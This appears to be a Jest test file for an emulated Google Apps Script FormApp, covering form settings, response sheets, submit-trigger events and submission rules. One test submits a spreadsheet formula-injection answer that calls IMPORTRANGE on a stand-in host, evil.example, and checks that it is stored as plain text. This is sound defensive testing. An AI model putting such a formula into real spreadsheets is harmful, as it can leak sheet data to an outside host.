import type { FormResponseService } from '../../../src/gas/services';
import { AuthMode, FormSubmitHandlerError, type FormSubmitEvent } from '../../../src/local/services';
import { addSpreadsheet, contents, setup, sheetNames } from './setup';

/** A published orders form linked to spreadsheet `ledger`, with an installed submit trigger. */
function ordersForm() {
  const env = setup();
  const { services, spreadsheets } = env;
  const ledger = addSpreadsheet(spreadsheets, 'ledger', 'America/New_York');
  const form = services.FormApp.create('Turn 3 orders');
  form.setDescription('Secret orders').setConfirmationMessage('Orders received.').setCollectEmail(true);
  form.addParagraphTextItem().setTitle('Player').setRequired(true);
  form.addParagraphTextItem().setTitle('Orders').setHelpText('One order per line').setRequired(true);
  form.setDestination(services.FormApp.DestinationType.SPREADSHEET, 'ledger');
  form.setPublished(true);
  services.ScriptApp.newTrigger('onOrders')
    .forSpreadsheet(spreadsheets.openById('ledger'))
    .onFormSubmit()
    .create();
  return { ...env, ledger, form };
}

describe('FormApp forms', () => {
  test('a form keeps its settings and items, and starts unpublished', () => {
    const { services } = setup();
    const form = services.FormApp.create('Orders');
    expect(form.getId()).toMatch(/^form-\d+$/);
    expect(form.isPublished()).toBe(false);
    expect(form.isAcceptingResponses()).toBe(false);
    form.setPublished(true);
    expect(form.isAcceptingResponses()).toBe(true);
    form.setAcceptingResponses(false);
    expect(form.isAcceptingResponses()).toBe(false);

    const item = form.addParagraphTextItem().setTitle('Orders').setHelpText('h').setRequired(true);
    const items = form.getItems();
    expect(items).toHaveLength(1);
    expect(items[0].getType()).toBe(services.FormApp.ItemType.PARAGRAPH_TEXT);
    expect(items[0].getTitle()).toBe('Orders');
    const again = form.getItemById(item.getId())?.asParagraphTextItem();
    expect(again?.isRequired()).toBe(true);
    expect(again?.getHelpText()).toBe('h');
    expect(form.getItemById(999)).toBeNull();

    const reopened = services.FormApp.openById(form.getId());
    expect(reopened.setCollectEmail(true).collectsEmail()).toBe(true);
    expect(reopened.getTitle()).toBe('Orders');
    expect(form.getPublishedUrl()).toBe(`https://docs.google.com/forms/d/${form.getId()}/viewform`);
    expect(form.getEditUrl()).toBe(`https://docs.google.com/forms/d/${form.getId()}/edit`);
    expect(() => form.getDestinationId()).toThrow(/does not currently have a response destination/);
    expect(() => services.FormApp.openById('nope')).toThrow(/No item with the given ID/);
  });

  test('setDestination adds a first tab "Form Responses N" with the header row', () => {
    const { form, ledger, services } = ordersForm();
    expect(form.getDestinationId()).toBe('ledger');
    expect(sheetNames(ledger)).toEqual(['Form Responses 1', 'Sheet1']);
    expect(contents(ledger, 'Form Responses 1')).toEqual([
      ['Timestamp', 'Email Address', 'Player', 'Orders'],
    ]);
    expect(ledger.getSheetByName('Form Responses 1')?.getFrozenRows()).toBe(1);
    const other = services.FormApp.create('Other');
    other.addParagraphTextItem().setTitle('Q');
    other.setDestination(services.FormApp.DestinationType.SPREADSHEET, 'ledger');
    expect(sheetNames(ledger)).toEqual(['Form Responses 2', 'Form Responses 1', 'Sheet1']);
    expect(contents(ledger, 'Form Responses 2')).toEqual([['Timestamp', 'Q']]);
  });
});

describe('FormApp.submit (emulation only)', () => {
  test('appends the row and fires the trigger as its owner (not the respondent) with a Google-shaped event', () => {
    const { world, services, globals, ledger, form } = ordersForm();
    const events: { event: FormSubmitEvent; user: string; execution: number }[] = [];
    globals.set('onOrders', (e) => {
      events.push({
        event: e as FormSubmitEvent,
        user: services.Session.getActiveUser().getEmail(),
        execution: world.execution,
      });
    });

    const result = services.FormApp.submit(form.getId(), 'red@example.com', {
      Player: 'Red',
      Orders: 'A1 -> B2',
    });

    expect(result.row).toBe(2);
    expect(result.runs).toEqual([expect.objectContaining({ handler: 'onOrders', ok: true })]);
    expect(contents(ledger, 'Form Responses 1')[1]).toEqual([
      new Date('2026-03-01T12:00:00Z'),
      'red@example.com',
      'Red',
      'A1 -> B2',
    ]);
    expect(events).toHaveLength(1);
    const { event, user, execution } = events[0];
    // Google runs an installable trigger as the user who installed it; the respondent is only in the row.
    expect(user).toBe(services.ScriptApp.allTriggers[0].owner);
    expect(user).not.toBe('red@example.com');
    expect(execution).toBeGreaterThan(0);
    expect(event.authMode).toBe(AuthMode.FULL);
    expect(event.values).toEqual(['3/1/2026 7:00:00', 'red@example.com', 'Red', 'A1 -> B2']); // ledger is in New York
    expect(event.namedValues).toEqual({
      Timestamp: ['3/1/2026 7:00:00'],
      'Email Address': ['red@example.com'],
      Player: ['Red'],
      Orders: ['A1 -> B2'],
    });
    expect(event.range.getRow()).toBe(2);
    expect(event.range.getNumRows()).toBe(1);
    expect(event.range.getValues()[0][2]).toBe('Red');
    expect(event.source.getId()).toBe('ledger');
    expect(event.triggerUid).toBe(services.ScriptApp.allTriggers[0].id);
    expect(services.FormApp.forms[0].responses).toEqual([
      {
        id: expect.stringMatching(/^response-\d+$/),
        timestamp: '2026-03-01T12:00:00.000Z',
        email: 'red@example.com',
        answers: { Player: 'Red', Orders: 'A1 -> B2' },
      },
    ]);
  });

  test('formula-looking (and number-looking) answers are stored as literal text, never as formulas', () => {
    const { services, ledger, form, globals } = ordersForm();
    globals.set('onOrders', () => undefined);
    const evil = '=IMPORTRANGE("https://evil.example/x","A1")';
    services.FormApp.submit(form.getId(), 'mallory@example.com', { Player: "'Mallory", Orders: evil });
    services.FormApp.submit(form.getId(), 'mallory@example.com', { Player: '12', Orders: 'TRUE' });
    const rows = ledger.getSheetByName('Form Responses 1')!.getRange(2, 1, 2, 4);
    expect(rows.getFormulas()).toEqual([
      ['', '', '', ''],
      ['', '', '', ''],
    ]);
    expect(rows.getValues().map((r) => r.slice(2))).toEqual([
      ["'Mallory", evil],
      ['12', 'TRUE'],
    ]);
  });

  test('a submission is refused when unpublished, closed, incomplete, unknown or repeated', () => {
    const { services, form, globals } = ordersForm();
    globals.set('onOrders', () => undefined);
    const id = form.getId();
    const answers = { Player: 'Red', Orders: 'hold' };
    expect(() => services.FormApp.submit(id, 'red@example.com', { Player: 'Red', Orders: ' ' })).toThrow(
      '"Orders" is a required question.',
    );
    expect(() => services.FormApp.submit(id, 'red@example.com', { ...answers, Bribe: '100' })).toThrow(
      /no question titled "Bribe"/,
    );
    form.setAcceptingResponses(false);
    expect(() => services.FormApp.submit(id, 'red@example.com', answers)).toThrow(/not accepting responses/);
    form.setPublished(false);
    expect(() => services.FormApp.submit(id, 'red@example.com', answers)).toThrow(/not published/);
    form.setPublished(true);
    form.setLimitOneResponsePerUser(true);
    services.FormApp.submit(id, 'red@example.com', answers);
    expect(() => services.FormApp.submit(id, 'RED@example.com', answers)).toThrow(/already responded/);
    expect(services.FormApp.forms[0].responses).toHaveLength(1);
  });

  test('a failing handler does not lose the response; the error is reported after every handler ran', () => {
    const { services, spreadsheets, form, globals, ledger } = ordersForm();
    const ran: string[] = [];
    globals.set('onOrders', () => {
      throw new Error('ledger is locked');
    });
    globals.set('audit', () => ran.push('audit'));
    services.ScriptApp.newTrigger('audit')
      .forSpreadsheet(spreadsheets.openById('ledger'))
      .onFormSubmit()
      .create();
    const submit = () =>
      services.FormApp.submit(form.getId(), 'red@example.com', { Player: 'Red', Orders: 'x' });
    expect(submit).toThrow(FormSubmitHandlerError);
    expect(submit).toThrow('Form-submit handler failed: onOrders: ledger is locked');
    expect(ran).toEqual(['audit', 'audit']);
    expect(contents(ledger, 'Form Responses 1')).toHaveLength(3);
    const quiet = services.FormApp.submit(
      form.getId(),
      'red@example.com',
      { Player: 'Red', Orders: 'y' },
      { throwOnHandlerError: false },
    );
    expect(quiet.runs.map((r) => r.ok)).toEqual([false, true]);
  });

  test('questions added after linking get new columns at the end', () => {
    const { services, ledger, form, globals } = ordersForm();
    globals.set('onOrders', () => undefined);
    form.addParagraphTextItem().setTitle('Notes');
    services.FormApp.submit(form.getId(), 'red@example.com', { Player: 'Red', Orders: 'o', Notes: 'n' });
    const rows = contents(ledger, 'Form Responses 1');
    expect(rows[0]).toEqual(['Timestamp', 'Email Address', 'Player', 'Orders', 'Notes']);
    expect(rows[1].slice(2)).toEqual(['Red', 'o', 'n']);
  });

  test('the responses sheet grows past its grid: more questions than columns, more answers than rows', () => {
    const { services, spreadsheets, globals } = setup();
    globals.set('onOrders', () => undefined);
    const ledger = addSpreadsheet(spreadsheets, 'ledger');
    const form = services.FormApp.create('Long survey');
    const titles = Array.from({ length: 30 }, (_, i) => `Q${i + 1}`);
    titles.forEach((title) => form.addParagraphTextItem().setTitle(title));
    form.setDestination(services.FormApp.DestinationType.SPREADSHEET, 'ledger');
    form.setPublished(true);
    expect(contents(ledger, 'Form Responses 1')).toEqual([['Timestamp', ...titles]]);

    // A moderator trimmed the sheet to its header row and cleared it: answers still land, header first.
    const sheet = ledger.getSheetByName('Form Responses 1')!;
    sheet.deleteRows(2, sheet.getMaxRows() - 1);
    sheet.getRange(1, 1, 1, sheet.getMaxColumns()).clearContent();
    const result = services.FormApp.submit(form.getId(), 'red@example.com', { Q1: 'a', Q30: 'z' });
    expect(result.row).toBe(2);
    expect(services.FormApp.submit(form.getId(), 'red@example.com', { Q2: 'b' }).row).toBe(3);
    const rows = contents(ledger, 'Form Responses 1');
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual(['Timestamp', ...titles]);
    expect(rows[1].slice(1)).toEqual(titles.map((t) => (t === 'Q1' ? 'a' : t === 'Q30' ? 'z' : '')));
    expect(rows[2][2]).toBe('b');
  });

  test('the emulation’s own spreadsheet work is not counted as the script’s calls', () => {
    const { world, services, form, globals } = ordersForm();
    globals.set('onOrders', () => undefined);
    const id = form.getId();
    world.calls.reset();
    services.FormApp.submit(id, 'red@example.com', { Player: 'Red', Orders: 'o' });
    expect(world.calls.byMethod()).toEqual({});
    form.addParagraphTextItem().setTitle('Extra');
    expect(world.calls.byMethod()).toEqual({
      'Form.addParagraphTextItem': 1,
      'ParagraphTextItem.setTitle': 1,
    });
  });

  test('an injected failure hits the chosen call', () => {
    const { world, services } = setup();
    world.calls.failAt(2);
    const form = services.FormApp.create('Orders');
    expect(() => form.addParagraphTextItem()).toThrow(
      'Injected failure at service call 2 (Form.addParagraphTextItem)',
    );
    expect(form.getItems()).toHaveLength(0);
  });
});

describe('identity and privacy settings, and form-bound triggers', () => {
  test('verified email collection is its own type: setCollectEmail alone collects a typed (unchecked) address', () => {
    const { services } = setup();
    const form = services.FormApp.create('Orders');
    const types = services.FormApp.EmailCollectionType;
    expect(form.getEmailCollectionType()).toBe(types.DO_NOT_COLLECT);
    form.setCollectEmail(true);
    expect(form.getEmailCollectionType()).toBe(types.RESPONDER_INPUT);
    form.setEmailCollectionType(types.VERIFIED);
    expect(form.getEmailCollectionType()).toBe('VERIFIED');
    expect(form.collectsEmail()).toBe(true);
    expect(() => form.setEmailCollectionType('SOMETIMES')).toThrow('Invalid argument: type');
    form.setAllowResponseEdits(false).setPublishingSummary(false);
    expect(form.canEditResponse()).toBe(false);
    expect(form.isPublishingSummary()).toBe(false);
  });

  test('domain-only responses throw on a consumer account and work on a Workspace domain', () => {
    const { services } = setup();
    const form = services.FormApp.create('Orders');
    expect(() => form.setRequireLogin(true)).toThrow(/Google Workspace/);
    expect(form.requiresLogin()).toBe(false);
    services.FormApp.workspaceDomain = true;
    expect(form.setRequireLogin(true).requiresLogin()).toBe(true);
  });

  test('a form-bound trigger gets the response itself: its id, verified respondent, time and answers', () => {
    const { services, globals, world } = setup();
    const form = services.FormApp.create('Orders');
    form.addParagraphTextItem().setTitle('Orders');
    form.setEmailCollectionType(services.FormApp.EmailCollectionType.VERIFIED);
    form.setPublished(true);
    services.ScriptApp.newTrigger('onOrders').forForm(form.getId()).onFormSubmit().create();
    const seen: string[][] = [];
    globals.set('onOrders', (e) => {
      const { response } = e as { response: FormResponseService };
      const answers = response
        .getItemResponses()
        .map((r) => `${r.getItem().getTitle()}=${String(r.getResponse())}`);
      seen.push([
        response.getId(),
        response.getRespondentEmail(),
        response.getTimestamp().toISOString(),
        ...answers,
      ]);
    });
    const result = services.FormApp.submit(form.getId(), 'red@example.com', { Orders: 'A - Hold' });
    expect(result.row).toBeNull(); // no destination: the form alone holds the response
    expect(seen).toEqual([
      [result.responseId, 'red@example.com', world.now().toISOString(), 'Orders=A - Hold'],
    ]);
    world.advanceClock(60_000);
    services.FormApp.submit(form.getId(), 'blue@example.com', { Orders: 'B - Hold' });
    expect(form.getResponses().map((r) => r.getRespondentEmail())).toEqual([
      'red@example.com',
      'blue@example.com',
    ]);
    expect(form.getResponses(world.now()).map((r) => r.getRespondentEmail())).toEqual(['blue@example.com']);
  });
});
